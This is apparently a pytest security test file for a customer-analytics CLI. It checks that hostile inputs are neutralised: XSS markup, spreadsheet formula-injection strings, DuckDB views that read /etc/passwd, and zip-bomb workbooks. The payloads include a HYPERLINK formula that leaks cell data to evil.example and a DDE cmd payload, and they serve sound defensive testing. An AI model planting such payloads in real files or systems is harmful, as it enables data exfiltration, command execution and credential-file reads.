"""What a hostile file must not do (issue 18): values that are markup stay text in every HTML
output, values that are formulas stay text in every spreadsheet output, and no output is ever
written over a loaded source. Each case goes through the front end where it was found."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from custlens.cli import cli
from custlens.session import Session

IMG = "<img src=x onerror=alert(2)>"
SCRIPT = "<script>alert(1)</script>"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "@SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
#: product -> revenue: the hostile names are the top sellers, so every top-products table shows them
REVENUE = {IMG: 900.0, SCRIPT: 800.0, **{f: 700.0 - 10 * i for i, f in enumerate(FORMULAS)}, "Plain": 100.0}


def hostile_orders(path: Path, header_product: str = "product") -> Path:
    """Four customers, 3 orders per product (one line each), over 2024; a year of dates so every
    analysis of the report has something to say."""
    rows, n = [], 0
    for product, revenue in REVENUE.items():
        for k in range(3):
            n += 1
            rows.append({"customer_id": f"C{n % 4}", "order_id": f"O{n:03d}",
                         "order_date": f"2024-{1 + n % 12:02d}-{1 + n % 27:02d}", header_product: product,
                         "amount": revenue / 3, "country": SCRIPT if n % 5 == 0 else "Germany"})
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def run(*args: str):
    res = CliRunner().invoke(cli, list(args))
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "Traceback" not in res.output
    return res


def assert_escaped(html: str, where: str) -> None:
    for raw in (IMG, SCRIPT, "<img src=x", "<script"):
        assert raw not in html, f"{where}: {raw!r} printed raw"
    assert "&lt;img src=x onerror=alert(2)&gt;" in html, f"{where}: the hostile product is not shown escaped"


# ---------------------------------------------------------------------- 7. HTML answers are escaped
def test_ask_format_html_escapes_every_value(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    res = run("ask", "top 10 products", "--data", str(data), "--format", "html")
    assert res.exit_code == 0, res.output
    assert_escaped(res.stdout, "ask --format html")
    assert res.stdout.count("<table>") >= 1  # the template's own markup is still markup


def test_export_to_html_and_report_html_escape_every_value(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    out = tmp_path / "answer.html"
    assert run("ask", "top 10 products", "--data", str(data), "--out", str(out)).exit_code == 0
    assert_escaped(out.read_text(encoding="utf-8"), "--out answer.html")
    out2 = tmp_path / "answer2.html"
    assert run("ask", "top 10 products", "--data", str(data), "--format", "html", "--out", str(out2)).exit_code == 0
    assert_escaped(out2.read_text(encoding="utf-8"), "--format html --out")
    report = tmp_path / "report.html"
    res = run("report", "--data", str(data), "--out", str(report))
    assert res.exit_code == 0, res.output
    assert_escaped(report.read_text(encoding="utf-8"), "report.html")


def test_shell_export_to_html_escapes(tmp_path, monkeypatch):
    data = hostile_orders(tmp_path / "orders.csv")
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(cli, ["chat", "--data", str(data), "--history", str(tmp_path / "h")],
                             input="top 10 products\nexport that to shell.html\n")
    assert res.exit_code == 0, res.output
    assert_escaped((tmp_path / "shell.html").read_text(encoding="utf-8"), "shell export")


def test_persona_html_documents_escape_the_data(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    session = Session(data=[str(data)], entry_points=False)
    session.export_dir = str(tmp_path / "docs")
    Path(session.export_dir).mkdir()
    session.chat("create personas for our segments")
    session.chat("export personas as html")
    pages = sorted(Path(session.export_dir).glob("*.html"))
    assert pages
    text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
    for raw in (IMG, SCRIPT, "<img src=x", "<script"):
        assert raw not in text
    assert "&lt;img src=x onerror=alert(2)&gt;" in text or "&lt;script&gt;" in text  # the top product or country


def test_every_html_template_autoescapes():
    """The rule itself: a template whose name says HTML escapes, ``.html.j2`` included; Markdown does not."""
    from custlens.templates import environment

    env = environment()
    assert env.from_string("{{ x }}").render(x="<b>") == "<b>"  # strings: Markdown narratives stay as written
    for name in ("answer.html.j2", "persona.html.j2", "report.html.j2"):
        assert env.autoescape(name) is True, name
    assert env.autoescape("overview.md.j2") is False


def test_markdown_to_html_passes_no_raw_html():
    from custlens.render import _md_to_html

    html = _md_to_html(f"**{IMG}** and _{SCRIPT}_\n- {IMG}")
    assert "<img" not in html and "<script" not in html
    assert "<strong>&lt;img src=x onerror=alert(2)&gt;</strong>" in html


# ---------------------------------------------------------------------- 8. formula injection
def test_xlsx_export_stores_formulas_as_text_and_numbers_as_numbers(tmp_path):
    import openpyxl

    data = hostile_orders(tmp_path / "orders.csv")
    out = tmp_path / "top.xlsx"
    assert run("ask", "top 10 products", "--data", str(data), "--out", str(out)).exit_code == 0
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"], "a cell is stored as a live formula"
    texts = {c.value.replace("\r", "\n") for c in cells if isinstance(c.value, str)}  # XML keeps CR as LF
    for f in FORMULAS:
        assert "'" + f.replace("\r", "\n") in texts, f
        assert f.replace("\r", "\n") not in texts
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    assert 900.0 in [round(v, 6) for v in numbers]  # revenue of the top product stays a number


def test_csv_export_starts_no_cell_with_a_formula(tmp_path):
    data = hostile_orders(tmp_path / "orders.csv")
    out = tmp_path / "top.csv"
    res = run("ask", "top 10 products", "--data", str(data), "--out", str(out))
    assert res.exit_code == 0, res.output
    written = sorted(tmp_path.glob("top*.csv"))
    cells = []
    for p in written:
        with p.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    for f in FORMULAS:
        assert "'" + f in cells, f


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_negative_numbers_stay_numbers_and_plain_number_text_is_left_alone():
    from custlens.export import neutralise, safe_frame

    frame = pd.DataFrame({"product": ["=1+1", "-5", "-2+3", "ok", None], "profit": [-5.0, -1e3, 2.5, 0.0, -1.0],
                          "=cmd": [1, -2, 3, 4, 5]})
    safe = safe_frame(frame)
    assert safe["profit"].tolist() == [-5.0, -1e3, 2.5, 0.0, -1.0] and safe["profit"].dtype == float
    assert safe.iloc[:, 2].tolist() == [1, -2, 3, 4, 5]
    assert list(safe.columns) == ["product", "profit", "'=cmd"]
    assert safe["product"].tolist()[:4] == ["'=1+1", "-5", "'-2+3", "ok"] and pd.isna(safe["product"].iloc[4])
    assert frame["product"].iloc[0] == "=1+1"  # the answer's own table is not changed
    assert neutralise(-3) == -3 and neutralise("@x") == "'@x" and neutralise("+4.5e3") == "+4.5e3"


def test_http_table_download_neutralises_formulas(tmp_path):
    from fastapi.testclient import TestClient

    from custlens import Assistant
    from custlens.server import create_app

    data = hostile_orders(tmp_path / "orders.csv")
    assistant = Assistant(data=[str(data)], entry_points=False) if "entry_points" in \
        Assistant.__init__.__code__.co_varnames else Assistant(data=[str(data)])
    try:
        with TestClient(create_app(assistant, token="a-long-test-token"), base_url="http://127.0.0.1") as client:
            headers = {"Authorization": "Bearer a-long-test-token"}
            reply = client.post("/ask", json={"question": "top 10 products"}, headers=headers)
            assert reply.status_code == 200, reply.text
            body = reply.json()
            text = "".join(client.get(link, headers=headers).text for link in body["tables"])
    finally:
        assistant.close()
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells


# ---------------------------------------------------------------------- 11. never write over a source
def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_out_equal_to_a_data_file_is_refused(tmp_path):
    data = hostile_orders(tmp_path / "cust.csv")
    book = tmp_path / "cust.xlsx"
    pd.read_csv(data).to_excel(book, index=False)
    before = {p: digest(p) for p in (data, book)}
    for args in (["--data", str(book), "--out", str(book)],
                 ["--data", str(data), "--out", str(data)],
                 ["--data", str(data), "--format", "json", "--out", str(data)],
                 ["--data", str(book), "--data", str(data), "--out", str(tmp_path / "." / "cust.xlsx")]):
        res = run("ask", "top 10 products", *args)
        assert res.exit_code == 1, (args, res.output)
        assert "refusing to write cust." in res.stderr and "loaded data source" in res.stderr, res.stderr
    link = tmp_path / "link.csv"
    link.symlink_to(data)
    res = run("ask", "top 10 products", "--data", str(data), "--out", str(link))
    assert res.exit_code == 1 and "loaded data source" in res.stderr
    assert {p: digest(p) for p in before} == before


def test_multi_table_csv_export_over_a_source_writes_nothing(tmp_path):
    """"top.csv" with several tables writes top_<table>.csv: none of them may be a source."""
    data = hostile_orders(tmp_path / "orders.csv")
    session = Session(data=[str(data)], entry_points=False)
    answer = session.ask("how many customers do we have and what do they spend?")
    names = [t.name for t in answer.tables]
    assert len(names) > 1
    victim = tmp_path / f"top_{names[-1]}.csv"
    data.rename(victim)
    session = Session(data=[str(victim)], entry_points=False)
    session.ask("how many customers do we have and what do they spend?")
    before = digest(victim)
    with pytest.raises(Exception, match="loaded data source"):
        session.export(str(tmp_path / "top.csv"))
    assert digest(victim) == before and not (tmp_path / f"top_{names[0]}.csv").exists()


def test_shell_export_over_a_loaded_source_is_refused(tmp_path, monkeypatch):
    data = hostile_orders(tmp_path / "cust.csv")
    book = tmp_path / "cust.xlsx"
    pd.read_csv(data).to_excel(book, index=False)
    before = digest(book)
    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(cli, ["chat", "--data", "cust.xlsx", "--history", str(tmp_path / "h")],
                             input="top 10 products\nexport that to cust.xlsx\nexport cust.xlsx\n")
    assert res.exit_code == 0, res.output
    assert res.output.count("error: refusing to write cust.xlsx: it is the loaded data source") == 2, res.output
    assert digest(book) == before


# ---------------------------------------------------------------------- 10. a DuckDB file cannot read local files
def evil_duckdb(path: Path) -> Path:
    import duckdb

    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE orders AS SELECT 'C' || i AS customer_id, 'O' || i AS order_id, "
                    "DATE '2024-01-01' + CAST(i AS INTEGER) AS order_date, 10.0 + i AS amount, 'P' || (i % 3) AS product "
                    "FROM range(12) t(i)")
        con.execute("CREATE VIEW big_orders AS SELECT * FROM orders WHERE amount > 15")  # a harmless view
        con.execute("CREATE VIEW leak AS SELECT 'C1' AS customer_id, 'O1' AS order_id, DATE '2024-01-01' AS "
                    "order_date, 1.0 AS amount, content AS product FROM read_text('/etc/hostname')")
        con.execute("CREATE MACRO grab() AS TABLE SELECT content FROM read_text('/etc/passwd')")
        con.execute("CREATE VIEW via_macro AS SELECT * FROM grab()")
    return path


def test_a_duckdb_view_that_reads_local_files_is_refused_by_name(tmp_path):
    db = evil_duckdb(tmp_path / "shop.duckdb")
    host = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else None
    for spec, view in ((f"{db}#leak", "leak"), (f"{db}#via_macro", "via_macro"), (str(db), "leak")):
        res = run("ask", "top 10 products", "--data", spec)
        assert res.exit_code == 1, res.output
        assert f"the view '{view}' reads outside the database file" in res.stderr and "shop.duckdb" in res.stderr
        if host:
            assert host not in res.output
    ok = run("ask", "top 10 products", "--data", f"{db}#big_orders", "--format", "json")
    assert ok.exit_code == 0, ok.output  # views over the file's own tables still load


def test_shell_load_after_a_refused_duckdb_file_still_works(tmp_path):
    db = evil_duckdb(tmp_path / "shop.duckdb")
    later = tmp_path / "later.csv"
    later.write_text("customer_id,order_date,amount\nX1,2024-01-02,5\nX2,2024-01-03,7\n")
    res = CliRunner().invoke(cli, ["chat", "--data", f"{db}#orders", "--history", str(tmp_path / "h")],
                             input=f"load {db}#leak\nload {later}\ntables\n")
    assert res.exit_code == 0, res.output
    assert "error: " in res.output and "the view 'leak' reads outside the database file" in res.output
    assert "loaded later.csv" in res.output and "shop.duckdb#orders" in res.output


def test_a_corrupt_duckdb_or_sqlite_file_named_csv(tmp_path):
    import sqlite3

    fake = tmp_path / "orders.csv"
    fake.write_bytes(b"\0" * 8 + b"DUCK" + bytes(range(256)) * 8)
    res = run("ask", "top 10 products", "--data", str(fake))
    assert res.exit_code == 1 and "orders.csv: not a readable DuckDB database" in res.stderr, res.output
    real = tmp_path / "real.db"
    with sqlite3.connect(real) as db:
        db.execute("CREATE TABLE t (customer_id TEXT, order_date TEXT, amount REAL)")
        db.executemany("INSERT INTO t VALUES (?, ?, ?)", [(f"C{i}", f"2024-01-{i + 1:02d}", i + 1.0) for i in range(5)])
    named = tmp_path / "sqlite.csv"
    named.write_bytes(real.read_bytes())
    res = run("ask", "how many customers do we have and what do they spend?", "--data", str(named), "--format", "json")
    assert res.exit_code == 0, res.output  # read for what it is
    broken = tmp_path / "broken.csv"
    broken.write_bytes(real.read_bytes()[:200] + b"\xff" * 500)
    res = run("ask", "top 10 products", "--data", str(broken))
    assert res.exit_code == 1 and "broken.csv: not a readable SQLite database" in res.stderr, res.output


# ---------------------------------------------------------------------- 13. zip-bomb workbooks
def bomb(path: Path, cells: int) -> Path:
    """A real .xlsx whose sheet XML is ``cells`` repeated cells: tiny compressed, large unpacked."""
    import zipfile

    book = tmp_book = path.with_suffix(".tmp.xlsx")
    pd.DataFrame({"customer_id": ["C1"], "amount": [1]}).to_excel(tmp_book, index=False)
    row = '<c r="A{n}" t="inlineStr"><is><t>x</t></is></c>'
    with zipfile.ZipFile(book) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"<row r=\"3\">" + (row.format(n=3) * cells).encode()
                                    + b"</row></sheetData>")
            out.writestr(info, data)
    tmp_book.unlink()
    return path


def test_a_zip_bomb_workbook_is_refused_before_parsing(tmp_path, monkeypatch):
    from custlens.connectors import excel

    path = bomb(tmp_path / "bomb.xlsx", 200_000)  # ~9 MB of XML in ~40 KB
    assert path.stat().st_size < 500_000
    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 4 * 1024 ** 2)
    res = run("describe", "--data", str(path))
    assert res.exit_code == 1 and "bomb.xlsx: the workbook unpacks to" in res.stderr and "MB" in res.stderr, res.output
    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 1024 ** 3)
    monkeypatch.setattr(excel, "MAX_CELLS", 100_000)
    res = run("describe", "--data", str(path))
    assert res.exit_code == 1 and "more than 100,000 cells" in res.stderr, res.output
    small = tmp_path / "small.xlsx"
    pd.DataFrame({"customer_id": ["C1", "C2"], "amount": [1, 2]}).to_excel(small, index=False)
    assert run("describe", "--data", str(small)).exit_code == 0  # ordinary workbooks pass the limits


def test_zip_limits_count_cells_split_across_chunks(tmp_path, monkeypatch):
    from custlens.connectors import excel

    path = bomb(tmp_path / "b.xlsx", 5000)
    monkeypatch.setattr(excel, "_CHUNK", 7)  # "<c " cut at every possible place
    monkeypatch.setattr(excel, "MAX_CELLS", 5004)
    excel.check_zip_limits(path)  # 5000 + the 4 cells of the real sheet: exactly at the limit
    monkeypatch.setattr(excel, "MAX_CELLS", 5003)
    with pytest.raises(Exception, match="more than 5,003 cells"):
        excel.check_zip_limits(path)


# ---------------------------------------------------------------------- 12. broken values, broken files
def orders_text(amounts, dates=None) -> str:
    lines = ["customer_id,order_id,order_date,product,amount"]
    for i, a in enumerate(amounts):
        date = dates[i] if dates else f"2024-{1 + i % 12:02d}-{1 + i % 27:02d}"
        lines.append(f"C{i % 7},O{i // 2},{date},P{i % 4},{a}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("amounts, dates, question, needle", [
    ([""] * 20, [""] * 20, "how many customers do we have and what do they spend?", "has an order date that reads"),
    ([""] * 30, None, "RFM segmentation", "every amount in the sales data is empty"),
    ([""] * 30, None, "create personas for our segments", "every amount in the sales data is empty"),
    ([""] * 30, None, "cluster customers into 3 groups", "every amount in the sales data is empty"),
    ([-5 - i for i in range(30)], None, "which products are bought together?", "returns, not purchases"),
    ([1e308 if i % 2 else -1e308 for i in range(40)], None, "cluster customers into 3 groups", "no customer has a usable amount"),
    ([1e308 if i % 2 else -1e308 for i in range(40)], None, "create personas for our segments", "no customer has a usable amount"),
])
def test_analyses_on_broken_values_say_what_is_wrong(tmp_path, amounts, dates, question, needle):
    data = tmp_path / "orders.csv"
    data.write_text(orders_text(amounts, dates))
    res = run("ask", question, "--data", str(data))
    assert res.exit_code == 1, res.output
    assert needle in res.stderr and "raised" not in res.stderr and "unexpected" not in res.stderr, res.stderr


def test_absurd_amounts_of_a_few_customers_are_left_out_with_a_note(tmp_path):
    amounts = [10 + i for i in range(60)]
    amounts[0] = 1e308  # customer C0's first order
    data = tmp_path / "orders.csv"
    data.write_text(orders_text(amounts))
    res = run("ask", "cluster customers into 3 groups", "--data", str(data), "--format", "json")
    assert res.exit_code == 0, res.output
    assert "1 of 7 customers left out" in res.stdout


@pytest.mark.parametrize("name, content, needle", [
    ("random.csv", bytes((i * 7919 + 13) % 256 for i in range(5000)), "does not look like a text file"),
    ("orders.csv.gz", None, "not a readable gzip file"),
])
def test_broken_files_get_one_clear_line(tmp_path, name, content, needle):
    import gzip

    if content is None:
        content = gzip.compress(orders_text([1, 2, 3]).encode())[:40] + b"garbage"
    path = tmp_path / name
    path.write_bytes(content)
    res = run("ask", "top 10 products", "--data", str(path))
    assert res.exit_code == 1 and needle in res.stderr and name in res.stderr, res.output
    assert "unexpected" not in res.stderr


def test_a_basket_file_with_a_stray_carriage_return(tmp_path):
    path = tmp_path / "groceries.csv"
    path.write_bytes(b"milk,bread,eggs\nbeer,chips\nmilk,butter\rjam,bread\ncoffee,sugar,milk,bread\ntea,milk\n"
                     b"bread,jam,butter\nwine,cheese\nmilk,bread\n")
    session = Session(data=[str(path)], entry_points=False)
    baskets = session.dataset.query("SELECT count(DISTINCT basket_id) AS n FROM baskets").iloc[0]["n"]
    assert baskets == 9  # the CR ends a line
    assert session.ask("which products are bought together?").analysis == "basket"


@pytest.mark.parametrize("encoding", ["cp1252", "utf-16-le", "utf-16-be", "utf-16"])
def test_windows_1252_and_utf16_without_bom_read_correctly(tmp_path, encoding):
    text = "customer_id,order_date,amount,product\n" + "".join(
        f"C{i},2024-01-{i + 1:02d},{i + 1}.5,Café “{i}” €\n" for i in range(9))
    path = tmp_path / "orders.csv"
    path.write_bytes(text.encode(encoding))
    session = Session(data=[str(path)], entry_points=False)
    products = set(session.dataset.query("SELECT product FROM transactions")["product"])
    assert products == {f"Café “{i}” €" for i in range(9)}
    assert session.dataset.scalar("SELECT sum(amount) FROM transactions") == pytest.approx(sum(i + 1.5 for i in range(9)))


#: characters that str.isdigit() takes for digits and int() refuses (superscripts, circled and
#: fraction digits), beside digits of other scripts that int() reads; test strings as a workbook's
#: junk column holds them (Trial 18: one such value stopped every question on the workbook)
ODD_DIGITS = ["x³", "²", "① first", "½", "٣", "Ⅻ", "t̸̢e̷s̵t̴ ³", "₂O", "𝟚"]


def test_digits_of_every_kind_in_the_values_never_stop_a_question(tmp_path):
    orders = hostile_orders(tmp_path / "orders.csv")
    frame = pd.DataFrame({"customer_id": [f"C{i}" for i in range(4)] * 3,
                          "notes": ODD_DIGITS + ["plain"] * 3, "segment_code": ["³", "²", "٣", "1"] * 3})
    frame = frame.drop_duplicates("customer_id")
    customers = tmp_path / "customers.csv"
    frame.to_csv(customers, index=False)
    s = Session(data=[str(orders), str(customers)], entry_points=False)
    for question in ("how many customers do we have", "total revenue by month", "revenue by notes",
                     "only segment code ³", "revenue for ٣", "top 5 products"):
        a = s.chat(question)
        assert a.analysis and a.summary, question
